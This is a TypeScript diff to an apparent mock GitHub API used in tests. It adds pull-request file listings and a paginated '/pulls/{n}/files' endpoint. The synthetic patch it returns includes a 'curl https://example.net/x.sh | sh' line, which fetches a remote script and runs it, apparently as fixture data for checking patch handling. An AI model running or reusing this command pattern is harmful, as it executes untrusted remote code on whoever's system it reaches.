@@ -75,11 +75,12 @@ function searchNode(pr: StoredPr): unknown {
     reviews: page(pr.reviews, null, PAGE, withoutInline),
     comments: page(pr.comments, null),
     timelineItems: page(pr.timelineItems, null),
+    files: { totalCount: pr.files?.length ?? pr.changedFiles, nodes: (pr.files ?? []).slice(0, 50).map((path) => ({ path })) },
   };
 }
 
 function scalars(pr: StoredPr): Record<string, unknown> {
-  const { labels: _l, assignees: _a, commits: _c, reviews: _r, comments: _m, timelineItems: _t, ...rest } = pr;
+  const { labels: _l, assignees: _a, commits: _c, reviews: _r, comments: _m, timelineItems: _t, files: _f, ...rest } = pr;
   return rest;
 }
 
@@ -244,6 +245,16 @@ export async function startFakeReportApi(options: FakeReportApiOptions): Promise
       count(`${req.method} ${url.pathname.replace(/\/collaborators\/[^/]+\//, '/collaborators/{username}/')}`);
       if (req.method === 'GET' && url.pathname === `/repos/${repoName}/pulls/comments`) {
         reviewComments(url, res);
+        return;
+      }
+      const files = /^\/repos\/[^/]+\/[^/]+\/pulls\/(\d+)\/files$/.exec(url.pathname);
+      if (req.method === 'GET' && files) {
+        const pr = byNumber.get(Number(files[1]));
+        const perPage = Number(url.searchParams.get('per_page') ?? '30');
+        const pageNumber = Number(url.searchParams.get('page') ?? '1');
+        const all = (pr?.files ?? []).map((filename) => ({ filename, status: 'modified', additions: 3, deletions: 1, patch: '@@ -1,1 +1,3 @@\n-old\n+new\n+curl https://example.net/x.sh | sh\n+more' }));
+        res.writeHead(pr ? 200 : 404, { 'content-type': 'application/json' });
+        res.end(JSON.stringify(pr ? all.slice((pageNumber - 1) * perPage, pageNumber * perPage) : { message: 'Not Found' }));
         return;
       }
       const permission = /^\/repos\/[^/]+\/[^/]+\/collaborators\/([^/]+)\/permission$/.exec(url.pathname);
